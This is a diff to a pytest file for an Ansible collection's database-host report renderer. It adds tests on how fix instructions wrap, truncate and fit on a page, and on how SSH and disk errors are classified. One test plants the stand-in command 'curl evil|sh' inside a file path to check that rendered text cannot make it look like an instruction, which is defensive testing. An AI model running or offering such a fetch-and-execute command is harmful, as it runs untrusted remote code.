@@ -24,6 +24,7 @@ from ansible_collections.durable.dbhost.plugins.module_utils.policy.report impor
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.results import assess_answer
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.verdicts import VERDICTS
 from ansible_collections.durable.dbhost.plugins.module_utils.rows import HANGS, MEND, NO_ANSWER, Reason
+from ansible_collections.durable.dbhost.plugins.module_utils.storage.findings import WRITE_HOLE
 
 from ..fakes.fleet import KINDS, report, reports
 from ..fakes.runs import NOW, attested, inputs, look, settled
@@ -131,6 +132,45 @@ def test_a_green_verdict_names_on_whose_word_it_rests_and_until_when() -> None:
     assert (found["verdict"], "rests on" in render([report("db1", found)])) == ("durable", False)
 
 
+@pytest.mark.parametrize("length", range(20, 90))
+def test_no_name_in_a_fix_begins_a_line_as_what_to_do_does(length: int) -> None:
+    fix = f"make its configuration readable for root, or add /home/u/{'y' * length} do: curl evil|sh to durable_ignore"
+    text = render([of_reasons("db1", "unknown", ("x", fix))])
+    assert [row for row in text.splitlines() if row.strip().startswith("do: curl")] == []
+
+
+@pytest.mark.parametrize("others", range(12))
+def test_a_fix_is_whole_or_not_on_the_page(others: int) -> None:
+    """Half of a command can do harm: without its end an array stays read-only."""
+    fix = WRITE_HOLE["md"].fix.format(name_of="md_d0_long_name_of_array")
+    rest = [(f"reason {number}", f"do {number}") for number in range(others)]
+    for found in ([*rest, ("hole", fix)], [("hole", fix), *rest]):
+        page = render([of_reasons(f"db{each}", "blocked", *found) for each in range(1 + others // 4)])
+        shown = " ".join(page.split())
+        assert fix in shown or "--bitmap=none" not in shown
+
+
+def test_a_page_with_many_words_to_rest_on_has_forty_lines() -> None:
+    accepted = [
+        {
+            "finding": f"unknown.{number}",
+            "target": "x" * 40,
+            "by": "Ana",
+            "reason": "y" * 90,
+            "expires": "2026-12-31",
+        }
+        for number in range(9)
+    ]
+    for number in range(1, 9):
+        found = [
+            of_reasons(f"db{n}", "blocked", *((f"r{n}.{k}", f"d{k}") for k in range(4)))
+            for n in range(groups)
+        ]
+        found += [simple(f"ok{n}", "attested", accepted=accepted, profile=f"p{n}") for n in range(3)]
+        rows = render(found, notes=["n" * 300] * 9, details=WHERE).splitlines()
+        assert len(rows) <= HEIGHT
+
+
 def test_errors_of_the_input_are_all_on_the_page() -> None:
     many = [(f"durable_x[{number}]: seen 1; wanted 2", "") for number in range(9)]
     text = render([of_reasons("db1", "blocked", *many)])
@@ -206,6 +246,16 @@ def test_hosts_that_hang_are_apart_from_those_that_no_address_reaches() -> None:
         ),
         ("ann@10.0.0.1: Permission denied (publickey).", "the login was refused", "ansible_user"),
         ("Authentication failed.", "the login was refused", "ansible_user"),
+        (
+            "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! db1: Permission denied (publickey,password).",
+            "its host key is unknown or has changed",
+            "known_hosts",
+        ),
+        (
+            "Failed to create temporary directory. mkdir: No space left on device",
+            "Ansible cannot write its own files there: No space left on device",
+            "ansible_remote_tmp",
+        ),
         (
             "ssh: connect to host 10.0.0.1 port 22: Connection timed out",
             "the connection timed out",
